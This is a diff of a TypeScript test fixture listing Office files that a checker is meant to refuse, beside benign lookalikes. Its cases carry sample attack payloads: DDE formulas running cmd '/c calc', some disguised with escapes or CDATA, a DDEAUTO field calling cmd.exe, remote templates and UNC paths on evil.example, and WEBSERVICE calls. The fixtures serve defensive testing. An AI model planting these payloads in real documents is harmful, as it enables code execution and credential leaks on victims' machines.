@@ -1,78 +1,13 @@
-import { officeFile, openDocumentFile, relationships } from './archives.ts'
+import type { ActiveFile, OrdinaryFile } from './active-word-files.ts'
+import { officeFile, relationships } from './archives.ts'
 
-export type ActiveFile = [name: string, content: Buffer | Promise<Buffer>, what: RegExp]
-export type OrdinaryFile = [name: string, content: Buffer | Promise<Buffer>]
-
-const rels = (...all: Parameters<typeof relationships>) => ({
-  'word/_rels/document.xml.rels': relationships(...all),
-})
-const settings = (target: string) => ({
-  'word/_rels/settings.xml.rels': relationships(['attachedTemplate', target, 'External']),
-})
-const field = (...pieces: string[]) => ({
-  'word/document.xml': `<w:document>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}</w:document>`,
+const openXml = 'application/vnd.openxmlformats-officedocument'
+const workbook = (formula: string) => ({
+  'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>${formula}</f><v>1</v><is><t>a|b</t></is></c></row></sheetData></worksheet>`,
 })
 
-/** Office files with active content, and what their refusal names. */
+/** Excel and PowerPoint files with active content, and the pattern of their refusal. */
 export const activeOfficeFiles: Record<string, ActiveFile> = {
-  'a Word file with a template on the web': [
-    'a.docx',
-    officeFile('docx', settings('https://evil.example/t.dotm')),
-    /a template from elsewhere/,
-  ],
-  'a Word file with a template on somebody else\u2019s server': [
-    'a.docx',
-    officeFile('docx', settings('file:///\\\\evil.example\\t.dotm')),
-    /a template from elsewhere/,
-  ],
-  'a Word file whose relationships are written in UTF-16': [
-    'a.docx',
-    officeFile('docx', {
-      'word/_rels/settings.xml.rels': Buffer.from(
-        `\uFEFF${settings('https://evil.example/t.dotm')['word/_rels/settings.xml.rels']}`,
-        'utf16le',
-      ),
-    }),
-    /a template from elsewhere/,
-  ],
-  'a Word file whose relationship is spelt in escapes': [
-    'a.docx',
-    officeFile('docx', {
-      'word/_rels/settings.xml.rels':
-        "<r:Relationships><r:Relationship TargetMode='&#x45;xternal' Type='x/attachedTemplate' Target='&#104;ttp://evil.example/t'\n></r:Relationship></r:Relationships>",
-    }),
-    /a template from elsewhere/,
-  ],
-  'a Word file with entities of its own': [
-    'a.docx',
-    officeFile('docx', { 'word/_rels/x.rels': '<!DOCTYPE a [<!ENTITY b "External">]><Relationships/>' }),
-    /cannot be read/,
-  ],
-  'a Word file with a picture from the web': [
-    'a.docx',
-    officeFile('docx', rels(['image', 'https://evil.example/pixel.png', 'External'])),
-    /loaded from elsewhere/,
-  ],
-  'a Word file with an embedded object': [
-    'a.docx',
-    officeFile('docx', { 'word/embeddings/oleObject1.bin': 'x' }),
-    /an embedded object/,
-  ],
-  'a Word file with a linked object': [
-    'a.docx',
-    officeFile('docx', rels(['oleObject', 'file:///C:\\x.xlsx', 'External'])),
-    /an embedded object/,
-  ],
-  'a Word file with ActiveX': [
-    'a.docx',
-    officeFile('docx', { 'word/activeX/activeX1.xml': '<a/>' }),
-    /ActiveX/,
-  ],
-  'a Word file with a field in pieces that starts a program': [
-    'a.docx',
-    officeFile('docx', field(' DD', 'EAUTO c:\\\\windows\\\\cmd.exe ')),
-    /another program/,
-  ],
   'an Excel file with a link to a program': [
     'a.xlsx',
     officeFile('xlsx', {
@@ -80,95 +15,123 @@ export const activeOfficeFiles: Record<string, ActiveFile> = {
     }),
     /another program/,
   ],
+  'an Excel file with a formula that starts a program': [
+    'a.xlsx',
+    officeFile('xlsx', workbook("SUM(1)+cmd|'/c calc'!A0")),
+    /another program/,
+  ],
+  'an Excel file with a formula that is spelt in escapes': [
+    'a.xlsx',
+    officeFile('xlsx', workbook('cmd&#124;<!-- -->&#39;/c calc&#39;!A0')),
+    /another program/,
+  ],
+  'an Excel file with a formula between marks': [
+    'a.xlsx',
+    officeFile('xlsx', workbook("<![CDATA[cmd|'/c calc'!A0]]>")),
+    /another program/,
+  ],
+  'an Excel file with a linked object': [
+    'a.xlsx',
+    officeFile('xlsx', { 'xl/externalLinks/externalLink1.xml': '<externalLink><oleLink/></externalLink>' }),
+    /an embedded object/,
+  ],
+  'an Excel file with a formula that asks the web': [
+    'a.xlsx',
+    officeFile('xlsx', workbook('_xlfn.WEBSERVICE("https://evil.example")')),
+    /loaded from elsewhere/,
+  ],
+  'an Excel file with a workbook on a server': [
+    'a.xlsx',
+    officeFile('xlsx', {
+      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
+        'externalLinkPath',
+        'file:///\\\\evil.example\\Rota.xlsx',
+        'External',
+      ]),
+    }),
+    /loaded from elsewhere/,
+  ],
+  'an Excel file with a query': [
+    'a.xlsx',
+    officeFile(
+      'xlsx',
+      { 'xl/connections.xml': '<connections/>' },
+      { 'xl/connections.xml': `${openXml}.spreadsheetml.connections+xml` },
+    ),
+    /loaded from elsewhere/,
+  ],
   'an Excel file with macros': [
     'a.xlsx',
     officeFile('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' }),
     /macros/,
   ],
+  'an Excel file with macros by their relationship': [
+    'a.xlsx',
+    officeFile('xlsx', { 'xl/_rels/workbook.xml.rels': relationships(['xlMacrosheet', 'worksheets/a.xml']) }),
+    /macros/,
+  ],
   'a PowerPoint file with an embedded program': [
     'a.pptx',
-    officeFile('pptx', { 'ppt/embeddings/tool.exe': 'MZ' }),
+    officeFile('pptx', { 'ppt/embeddings/tool.exe': 'MZ' }, { exe: 'application/octet-stream' }),
     /an embedded object/,
   ],
-  'an OpenDocument text with macros': [
-    'a.odt',
-    openDocumentFile(undefined, { 'Basic/Standard/Module1.xml': '<a/>' }),
-    /macros/,
+  'a PowerPoint file with a film on the web': [
+    'a.pptx',
+    officeFile('pptx', {
+      'ppt/slides/_rels/slide1.xml.rels': relationships(['video', 'https://evil.example/1', 'External']),
+    }),
+    /loaded from elsewhere/,
   ],
-  'an OpenDocument text with scripts': [
-    'a.odt',
-    openDocumentFile(undefined, { 'Scripts/python/a.py': 'x' }),
-    /macros/,
+  'a PowerPoint file that starts a program': [
+    'a.pptx',
+    officeFile('pptx', {
+      'ppt/slides/slide1.xml': '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>',
+    }),
+    /another program/,
   ],
-  'an OpenDocument text that calls a macro when it is opened': [
-    'a.odt',
-    openDocumentFile(
-      '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b?language=Basic"/>',
-    ),
-    /macros/,
-  ],
-  'an OpenDocument text with an embedded object': [
-    'a.odt',
-    openDocumentFile('<draw:object-ole xlink:href="./Object 1"/>'),
-    /an embedded object/,
-  ],
-  'a rich text with an object': [
-    'a.rtf',
-    Buffer.from('{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}'),
-    /an embedded object/,
-  ],
-  'a rich text with a template on the web': [
-    'a.rtf',
-    Buffer.from('{\\rtf1 {\\*\\template http://evil.example/t.dotm}}'),
-    /a template from elsewhere/,
-  ],
-  'a rich text with an object across the end of a piece': [
-    'a.rtf',
-    Buffer.from(`{\\rtf1 ${'x'.repeat(64 * 1024 - 12)}{\\object\\objemb}}`),
-    /an embedded object/,
+  'a PowerPoint file with a link that needs no click': [
+    'a.pptx',
+    officeFile('pptx', { 'ppt/slides/slide1.xml': '<p:sld><a:hlinkMouseOver r:id="rId1"/></p:sld>' }),
+    /loaded from elsewhere/,
   ],
 }
 
-/** Office files that look alike, and do nothing. */
+/** Similar Excel and PowerPoint files without active content. */
 export const ordinaryOfficeFiles: Record<string, OrdinaryFile> = {
-  'a letter with links and the template of its author': [
-    'a.docx',
-    officeFile('docx', {
-      ...rels(['hyperlink', 'https://www.nhs.uk/', 'External'], ['image', 'media/image1.png']),
-      ...settings('file:///C:\\Users\\ada\\Templates\\Letter.dotx'),
-      ...field(' HYPERLINK "https://www.nhs.uk/" ', ' PAGE '),
-    }),
-  ],
   'a table with a chart and other workbooks': [
     'a.xlsx',
-    officeFile('xlsx', {
-      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
-      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
-        'externalLinkPath',
-        'Rota.xlsx',
-        'External',
-      ]),
-      'xl/printerSettings/printerSettings1.bin': 'x',
-    }),
+    officeFile(
+      'xlsx',
+      {
+        ...workbook("IF([1]Sheet1!A1=&quot;a|b&quot;,'A|B'!A1,Table1[Yes|No])"),
+        'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
+        'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
+          'externalLinkPath',
+          'Rota.xlsx',
+          'External',
+        ]),
+        'xl/printerSettings/printerSettings1.bin': 'x',
+      },
+      { bin: `${openXml}.spreadsheetml.printerSettings` },
+    ),
   ],
   'slides with a chart and a film': [
     'a.pptx',
-    officeFile('pptx', {
-      'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK',
-      'ppt/slides/_rels/slide1.xml.rels': relationships(['video', 'https://video.example/1', 'External']),
-    }),
-  ],
-  'an OpenDocument text with links, a picture and a template': [
-    'a.odt',
-    openDocumentFile(
-      '<text:a xlink:href="https://www.nhs.uk/">NHS</text:a><draw:image xlink:href="Pictures/1.png" xlink:actuate="onLoad"/>',
-      { 'Object 1/content.xml': '<office:document-content/>', 'Configurations2/images/a.xml': '' },
-    ),
-  ],
-  'a rich text with a link and a template': [
-    'a.rtf',
-    Buffer.from(
-      '{\\rtf1 {\\*\\template C:\\\\Letter.dot}{\\field{\\*\\fldinst HYPERLINK "https://www.nhs.uk/"}}}',
+    officeFile('xlsx').then((workbook) =>
+      officeFile(
+        'pptx',
+        {
+          'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': workbook,
+          'ppt/slides/slide1.xml':
+            '<p:sld><a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></p:sld>',
+          'ppt/slides/_rels/slide1.xml.rels': relationships(['video', '../media/a.mp4']),
+          'ppt/charts/_rels/chart1.xml.rels': relationships([
+            'package',
+            '../embeddings/Microsoft_Excel_Sheet1.xlsx',
+          ]),
+        },
+        { mp4: 'video/mp4' },
+      ),
     ),
   ],
 }
